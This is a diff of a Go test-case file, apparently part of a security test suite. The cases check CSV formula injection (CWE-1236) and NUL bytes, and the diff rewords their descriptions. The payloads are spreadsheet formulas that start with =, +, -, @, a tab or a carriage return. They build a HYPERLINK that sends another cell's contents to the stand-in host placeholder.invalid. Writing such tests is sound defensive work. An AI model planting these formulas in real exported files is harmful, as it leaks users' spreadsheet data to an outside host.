@@ -13,8 +13,8 @@ func dataCases() []Case {
 		formula("csv-formula-plus", "Formula with a plus sign", "a plus sign", "+"+link, "+7.5"),
 		formula("csv-formula-minus", "Formula with a minus sign", "a minus sign", "-1&"+link, "-7.5"),
 		formula("csv-formula-at", "Formula with an at sign", "an at sign", "@"+link, "a@placeholder.invalid"),
-		formula("csv-formula-tab", "Formula after a tab", "a tab, which spreadsheets skip", "\t="+link, "a\t= b"),
-		formula("csv-formula-return", "Formula after a carriage return", "a carriage return, which spreadsheets skip", "\r="+link, "a\r= b"),
+		formula("csv-formula-tab", "Formula after a tab", "a tab and an equals sign", "\t="+link, "a\t= b"),
+		formula("csv-formula-return", "Formula after a carriage return", "a carriage return and an equals sign", "\r="+link, "a\r= b"),
 		{Info{
 			Token: "csv-nul", Format: "csv", Title: "NUL byte in a value", Verdict: Reject, CWE: 158,
 			Attack:   "A value has a NUL byte before an allowed extension. Programs in C end the value at the NUL byte.",
@@ -63,12 +63,12 @@ func dataCases() []Case {
 // link is a formula that shows the marker.
 const link = `HYPERLINK("http://placeholder.invalid/?"&A2,"` + Marker + `")`
 
-// formula returns a case of a table with a value that spreadsheets take for a formula. Its twin
-// has a value with the same characters that they take for text or a number.
+// formula returns a case of a table with a value that a spreadsheet may take for a formula (CSV Injection by OWASP). Its twin
+// has a value with the same characters that is text or a number.
 func formula(token, title, first, value, harmless string) Case {
 	return Case{Info{
 		Token: token, Format: "csv", Title: title, Verdict: Sanitize, CWE: 1236, ASVS: "1.2.10",
-		Attack:   "A value starts with " + first + ", so a spreadsheet reads it as a formula: a link that sends another cell to a host.",
+		Attack:   "A value starts with " + first + ", so a spreadsheet may read it as a formula: a link that sends another cell to a host.",
 		Failure:  "A spreadsheet shows " + Marker + " instead of the text of the formula.",
 		Harmless: "The value has the same characters, and is text or a number.",
 	}, func(twin bool) []byte {
